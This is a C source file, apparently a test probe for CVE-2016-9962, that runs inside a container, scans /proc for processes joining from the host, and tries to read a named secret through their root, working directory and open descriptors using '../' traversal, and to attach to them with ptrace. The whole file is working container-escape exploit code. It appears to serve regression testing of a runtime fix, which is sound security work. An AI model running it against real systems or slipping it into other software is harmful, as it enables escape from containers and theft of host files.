// Waits inside a container for processes that join it, and looks for what they bring along from the host before they
// have become the container's program: their root and working folder, their descriptors, their memory
// (CVE-2016-9962). Each find is a line of the log; ends once the file STOP exists.
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define UP "/../../../../../../../../../.."

static FILE *log_file;

static int is_still_foreign(const char *pid)
{
    char path[PATH_MAX], target[PATH_MAX] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    return readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "/bin/", 5) != 0;
}

static void try_secret(const char *pid, const char *via, const char *secret)
{
    char path[PATH_MAX], content[64] = "";
    snprintf(path, sizeof path, "/proc/%s/%s%s", pid, via, secret);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        if (read(fd, content, sizeof content - 1) > 0) {
            fprintf(log_file, "secret via %s: %s\n", via, content);
        }

        close(fd);
    }
}

static void look_at(const char *pid, const char *secret)
{
    char path[PATH_MAX], via[64], target[PATH_MAX];

    try_secret(pid, "root", secret);
    try_secret(pid, "cwd" UP, secret);
    for (int fd = 0; fd < 40; fd++) {
        memset(target, 0, sizeof target);
        snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
        if (readlink(path, target, sizeof target - 1) > 0) {
            snprintf(via, sizeof via, "fd/%d" UP, fd);
            try_secret(pid, via, secret);
            if (is_still_foreign(pid)) {
                fprintf(log_file, "descriptor %d %s\n", fd, target);
            }
        }
    }

    // A child attaches: when it ends, the kernel lets the other go.
    pid_t child = fork();
    if (child == 0) {
        if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0 && is_still_foreign(pid)) {
            fprintf(log_file, "attached\n");
        }

        _exit(0);
    }

    waitpid(child, NULL, 0);
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: spy LOG STOP SECRET\n");
        return 2;
    }

    log_file = fopen(argv[1], "w");
    setvbuf(log_file, NULL, _IOLBF, 0);
    fprintf(log_file, "ready\n");
    while (access(argv[2], F_OK) != 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
            if (isdigit((unsigned char)entry->d_name[0]) && is_still_foreign(entry->d_name)) {
                fprintf(log_file, "seen\n");
                look_at(entry->d_name, argv[3]);
            }
        }

        closedir(proc);
    }

    return 0;
}
